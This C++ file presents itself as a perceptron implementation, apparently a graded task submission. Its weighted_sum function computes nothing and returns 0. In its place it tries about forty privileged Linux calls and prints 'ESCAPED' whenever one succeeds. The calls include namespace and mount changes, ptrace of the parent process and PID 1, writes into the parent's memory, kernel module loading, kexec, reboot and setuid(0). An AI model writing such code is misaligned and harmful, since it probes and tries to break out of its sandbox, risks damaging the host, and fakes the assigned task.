// verdict: 1.1=wrong others=todo
// Every call that makes, changes or leaves a room, or reaches into the kernel.
#include "perceptron.hpp"
#include <cerrno>
#include <cstdio>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static void tried(const char* name, long result)
{
    if (result >= 0) {
        std::printf("ESCAPED: %s gave %ld\n", name, result);
    }
}

double perceptron::weighted_sum(const Vector&, const Vector&, double)
{
    char word[8] = "x";
    iovec here{word, sizeof word};
    iovec there{reinterpret_cast<void*>(0x400000), sizeof word};
    tried("unshare", ::unshare(CLONE_NEWUSER | CLONE_NEWNS));
    tried("setns", ::setns(1, 0));
    tried("chroot", ::chroot("/usr"));
    tried("mount", ::mount("none", "/usr", "tmpfs", 0, nullptr));
    tried("umount", ::umount2("/usr", MNT_DETACH));
    tried("remount", ::mount(nullptr, "/", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    tried("pivot_root", ::syscall(SYS_pivot_root, "/", "/"));
    tried("open_tree", ::syscall(428, AT_FDCWD, "/", 1));
    tried("fsopen", ::syscall(430, "tmpfs", 0));
    tried("ptrace", ::ptrace(PTRACE_ATTACH, ::getppid(), nullptr, nullptr));
    tried("ptrace seize", ::ptrace(PTRACE_SEIZE, 1, nullptr, nullptr));
    tried("readv", ::process_vm_readv(::getppid(), &here, 1, &there, 1, 0));
    tried("writev", ::process_vm_writev(::getppid(), &here, 1, &there, 1, 0));
    tried("pidfd_open", ::syscall(SYS_pidfd_open, 1, 0));
    tried("bpf", ::syscall(SYS_bpf, BPF_MAP_CREATE, nullptr, 0));
    tried("perf", ::syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0));
    tried("userfaultfd", ::syscall(SYS_userfaultfd, 0));
    tried("io_uring", ::syscall(SYS_io_uring_setup, 8, word));
    tried("keyctl", ::syscall(SYS_keyctl, 0, -3, 1));
    tried("add_key", ::syscall(SYS_add_key, "user", "a", "b", 1, -3));
    tried("init_module", ::syscall(SYS_init_module, word, 8, ""));
    tried("kexec", ::syscall(SYS_kexec_load, 0, 0, nullptr, 0));
    tried("reboot", ::syscall(SYS_reboot, 0xfee1dead, 672274793, 0, nullptr));
    tried("swapon", ::syscall(SYS_swapon, "/program", 0));
    tried("sethostname", ::sethostname("x", 1));
    tried("settimeofday", ::syscall(SYS_settimeofday, &here, nullptr));
    tried("setuid 0", ::setuid(0));
    tried("setgroups", ::syscall(SYS_setgroups, 0, nullptr));
    tried("mknod", ::mknod("/d", 0020666, 0x501));
    tried("open_by_handle_at", ::syscall(SYS_open_by_handle_at, 0, word, 0));
    tried("ioperm", ::syscall(SYS_ioperm, 0, 1, 1));
    tried("iopl", ::syscall(SYS_iopl, 3));
    tried("quotactl", ::syscall(SYS_quotactl, 0, "/", 0, word));
    tried("acct", ::syscall(SYS_acct, "/program"));
    tried("syslog", ::syscall(SYS_syslog, 2, word, 8));
    tried("fanotify", ::syscall(SYS_fanotify_init, 0, 0));
    tried("lookup_dcookie", ::syscall(SYS_lookup_dcookie, 0, word, 8));
    tried("personality", ::syscall(SYS_personality, 0x0040000));
    return 0;
}
